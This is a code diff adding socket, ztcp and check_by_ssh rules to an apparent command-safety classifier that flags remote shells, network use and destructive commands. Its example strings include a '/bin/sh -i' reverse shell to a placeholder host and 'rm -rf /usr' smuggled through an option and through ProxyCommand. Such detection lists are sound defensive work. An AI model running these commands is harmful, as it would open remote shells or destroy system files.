@@ -74,6 +74,33 @@ export const REMOTE_SHELLS: readonly Tool[] = family("usual", [
       fine: ["nc -l 127.0.0.1 8080", "nc -z localhost 80", "nc"],
     },
   }),
+  tool("socket", {
+    does: [
+      { with: "-*p*", is: "remote-shell" },
+      { with: "-*s*", is: "network", because: "listens" },
+      { by: client("-B:") },
+    ],
+    options: { shell: "-p" },
+    examples: {
+      "remote-shell": ["socket -qvp '/bin/sh -i' host.example 80"],
+      "delete-vital": ["socket -s -p 'rm -rf /usr' 80"],
+      network: ["socket -s localhost", "socket host.example 80"],
+      fine: ["socket localhost 80"],
+    },
+  }),
+  tool("ztcp zsocket", {
+    does: [{ is: "remote-shell" }],
+    examples: { "remote-shell": ["ztcp host.example 80"], fine: ["ztcp --help"] },
+  }),
+  tool("check_by_ssh", {
+    takes: "-o: -H: -C: -l: -i: -p: -t:",
+    options: { helper: "-o~ProxyCommand -o~LocalCommand -o~KnownHostsCommand", fetches: "-H" },
+    examples: {
+      "delete-vital": ["check_by_ssh -o 'ProxyCommand rm -rf /usr' -H localhost -C x"],
+      network: ["check_by_ssh -H host.example -C uptime"],
+      fine: ["check_by_ssh -H localhost -C uptime"],
+    },
+  }),
   tool("socat", {
     does: [{ by: socat }],
     examples: {
